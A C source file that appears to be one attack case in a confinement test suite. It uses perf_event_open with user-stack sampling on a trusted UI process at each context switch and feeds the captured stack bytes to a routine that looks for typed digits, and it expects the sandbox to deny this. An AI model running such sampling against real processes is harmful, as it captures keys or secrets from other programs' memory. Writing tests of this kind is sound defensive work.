// SPDX-License-Identifier: Apache-2.0
/*
 * Samples the trusted user interface at each context switch, its user stack included.
 *
 * attack: perf_stack
 * class: process
 * when: session
 * judge: keys
 * defence: confinement
 * why: perf_event_open(2) with PERF_SAMPLE_STACK_USER; denied, CAP_PERFMON and CAP_SYS_PTRACE
 *      gone, and no number for the process
 */
#include <errno.h>
#include <linux/perf_event.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "process.h"
#include "report.h"

#define PAGE	4096u
#define RING	(64 * PAGE)	/* a power of two */
#define STACK	(32 * 1024)	/* bytes of each sample */

static int open_event(pid_t pid)
{
	struct perf_event_attr attr = {
		.size = sizeof(attr),
		.type = PERF_TYPE_SOFTWARE,
		.config = PERF_COUNT_SW_CONTEXT_SWITCHES,
		.sample_period = 1,
		.sample_type = PERF_SAMPLE_STACK_USER,
		.sample_stack_user = STACK,
	};
	int fd = (int)syscall(SYS_perf_event_open, &attr, pid, -1, -1, PERF_FLAG_FD_CLOEXEC);

	return fd < 0 ? -errno : fd;
}

/* What has come since; a run of digits may be cut where the ring begins anew. */
static void drain(struct perf_event_mmap_page *ring)
{
	uint64_t head = __atomic_load_n(&ring->data_head, __ATOMIC_ACQUIRE);

	if (head == ring->data_tail)
		return;
	process_report_digits((const char *)ring + PAGE, RING);
	__atomic_store_n(&ring->data_tail, head, __ATOMIC_RELEASE);
}

int main(void)
{
	struct perf_event_mmap_page *ring;
	pid_t pid;
	int fd;

	attack_init();
	attack_ready();
	pid = process_wait_tui();
	if (!pid) {
		fd = open_event(0);
		attack_note("sampling itself: %s", fd < 0 ? strerror(-fd) : "possible");
		attack_failed("it sees no tconn-tui");
	}
	fd = open_event(pid);
	if (fd < 0)
		attack_failed("perf_event_open: %s", strerror(-fd));
	ring = mmap(NULL, PAGE + RING, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (ring == MAP_FAILED)
		attack_failed("no ring: %s", strerror(errno));
	while (!attack_wait(100))
		drain(ring);
	attack_done();
}
